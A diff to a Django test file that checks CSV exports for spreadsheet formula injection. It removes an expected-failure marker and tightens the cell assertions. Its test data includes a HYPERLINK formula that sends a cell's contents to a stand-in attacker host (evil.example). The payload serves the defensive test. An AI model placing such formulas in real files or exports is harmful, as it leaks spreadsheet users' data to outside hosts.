@@ -19,15 +19,7 @@ from django.urls import reverse
 
 from apps.reports import presentation
 
-pytestmark = [
-    pytest.mark.django_db,
-    # apps/reports is another engineer's: the fix (in presentation.csv_value) is theirs.
-    # strict: once it is fixed this fails as XPASS, and the marker must go.
-    pytest.mark.xfail(
-        strict=True,
-        reason="apps/reports/presentation.py csv_value writes text cells as they are (formula injection)",
-    ),
-]
+pytestmark = pytest.mark.django_db
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -41,7 +33,7 @@ NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 
 
 def dangerous_cells(text: str) -> list[str]:
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = list(csv.reader(io.StringIO(text, newline="")))
     return [
         cell
         for row in rows[1:]
@@ -75,6 +67,7 @@ def test_every_csv_export_neutralises_formulas_in_names(admin_client, influx, de
         assert response["Content-Type"].startswith("text/csv")
         text = response.content.decode()
         assert dangerous_cells(text) == [], url
-        assert "'" + name.strip("\r") in text or "'" + name in text, url  # kept, as text
+        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+        assert "'" + name.replace("\r", "") in cells, url  # kept, as text (a CR inside a cell dropped)
     snapshot_csv = presentation.csv_text([{"site": "pool", "site_name": name, "meter_check_diff": -0.5}])
     assert dangerous_cells(snapshot_csv) == []
